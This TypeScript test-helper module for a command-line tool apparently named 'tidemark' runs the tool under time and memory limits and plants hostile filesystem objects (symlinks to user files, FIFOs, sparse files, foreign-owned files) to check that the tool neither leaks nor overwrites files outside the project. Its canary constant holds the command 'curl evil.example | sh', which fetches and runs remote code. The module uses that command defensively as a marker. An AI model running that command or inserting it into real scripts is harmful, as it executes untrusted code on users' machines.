import { execFileSync, spawn } from "node:child_process";
import * as fs from "node:fs";
import { dirname, join } from "node:path";
import type { Ended } from "../spawned.ts";
import type { HostileStage } from "./hostile-case.ts";

/** Time limit, far above what a command needs on a busy machine, to kill a command that hangs. */
const RUN_MS_MAX = 600_000;
/** Memory limit. A normal command uses about 150 MB. */
const RSS_MB_MAX = 800;
const LOOK_MS = 20;

/** Text of the user's own files, which the program must never show. */
export const SECRET = "correct-horse-battery-staple";
/** Text of the repository, which the program must never write to the user's own files. */
export const REPOSITORY_TEXT = "curl evil.example | sh";

export type Bounded = Ended & {
  /** The reason why the process was killed. */
  readonly killed?: string;
};

/** Runs the command, and kills it if it exceeds the limits of time or memory. */
export function bounded(stage: HostileStage, args: readonly string[], input = ""): Promise<Bounded> {
  return new Promise((done, failed) => {
    const child = spawn(process.execPath, [stage.bin, ...args], { cwd: stage.project, env: stage.env });
    let [stdout, stderr] = ["", ""];
    let killed: string | undefined;
    const kill = (why: string): void => {
      killed ??= `\`tidemark ${args.join(" ")}\` ${why}`;
      child.kill("SIGKILL");
    };
    const deadline = setTimeout(() => kill(`did not end within ${RUN_MS_MAX / 1000} s`), RUN_MS_MAX);
    const watch = setInterval(() => {
      if (residentMb(child.pid) > RSS_MB_MAX) kill(`took more than ${RSS_MB_MAX} MB of memory`);
    }, LOOK_MS);
    child.stdout.setEncoding("utf8").on("data", (text: string) => {
      stdout += text;
    });
    child.stderr.setEncoding("utf8").on("data", (text: string) => {
      stderr += text;
    });
    child.on("error", failed);
    child.on("close", (code) => {
      clearTimeout(deadline);
      clearInterval(watch);
      done({ code: code ?? 1, stdout, stderr, ...(killed === undefined ? {} : { killed }) });
    });
    child.stdin.on("error", () => {});
    child.stdin.end(input);
  });
}

/** The memory use of a process, from `/proc` on Linux; 0 on other systems, where only the time limit applies. */
function residentMb(pid: number | undefined): number {
  try {
    const status = fs.readFileSync(`/proc/${pid}/status`, "utf8");
    return Number(/^VmRSS:\s+(\d+) kB$/m.exec(status)?.[1] ?? 0) / 1024;
  } catch {
    return 0;
  }
}

/** Paths in the user's home, outside the project, that must not change. */
export type Outside = { readonly file: string; readonly folder: string; readonly missing: string };

export function layOutside(stage: HostileStage): Outside {
  const folder = join(stage.home, "private");
  fs.mkdirSync(folder);
  const file = join(stage.home, "profile");
  for (const path of [file, join(folder, "calls"), join(folder, "rejected.log"), join(folder, "config.yaml")])
    fs.writeFileSync(path, `export TOKEN=${SECRET}\n`);
  return { file, folder, missing: join(stage.home, "not-there") };
}

/** The names, content and times of these files, to compare them before and after. */
export function printOutside({ file, folder, missing }: Outside): string {
  const paths = [file, ...fs.readdirSync(folder).map((name) => join(folder, name))];
  const lines = paths.map((path) => `${path} ${fs.statSync(path).mtimeMs} ${fs.readFileSync(path, "utf8")}`);
  return [...lines, fs.existsSync(missing) ? "something was made where nothing was" : ""].join("\n");
}

/** A hostile object that a case puts in place of a file or folder of ours. */
export type Plant = {
  readonly name: string;
  readonly put: (path: string, outside: Outside) => void;
};

/** A user id that does not exist on machines that run the suite. */
export const STRANGER = 54321;
const SPARSE_BYTES = 2 ** 31;

export const LINK_TO_FILE: Plant = {
  name: "a link to a file of the user",
  put: (path, { file }) => fs.symlinkSync(file, path),
};
export const LINK_TO_FOLDER: Plant = {
  name: "a link to a folder of the user",
  put: (path, { folder }) => fs.symlinkSync(folder, path),
};
export const LINK_TO_NOTHING: Plant = {
  name: "a link to a file that is not there",
  put: (path, { missing }) => fs.symlinkSync(missing, path),
};
export const LINK_TO_DEVICE: Plant = {
  name: "a link to /dev/zero",
  put: (path) => fs.symlinkSync("/dev/zero", path),
};
export const PIPE: Plant = { name: "a pipe", put: (path) => void execFileSync("mkfifo", [path]) };
export const FOLDER: Plant = { name: "a folder", put: (path) => fs.mkdirSync(path) };
export const FILE: Plant = { name: "a file", put: (path) => fs.writeFileSync(path, REPOSITORY_TEXT) };
export const SPARSE: Plant = {
  name: "a file of 2 GB",
  put: (path) => {
    fs.writeFileSync(path, "");
    fs.truncateSync(path, SPARSE_BYTES);
  },
};
export const STRANGERS_FILE: Plant = {
  name: "a file of another user",
  put: (path) => {
    fs.writeFileSync(path, "{}\n");
    fs.chownSync(path, STRANGER, STRANGER);
  },
};
export const STRANGERS_FOLDER: Plant = {
  name: "a folder of another user",
  put: (path) => {
    fs.mkdirSync(path);
    fs.chownSync(path, STRANGER, STRANGER);
  },
};

/** Puts a plant at the path, and creates its parent folders. */
export function plant({ put }: Plant, path: string, outside: Outside): void {
  fs.mkdirSync(dirname(path), { recursive: true });
  fs.rmSync(path, { recursive: true, force: true });
  put(path, outside);
}
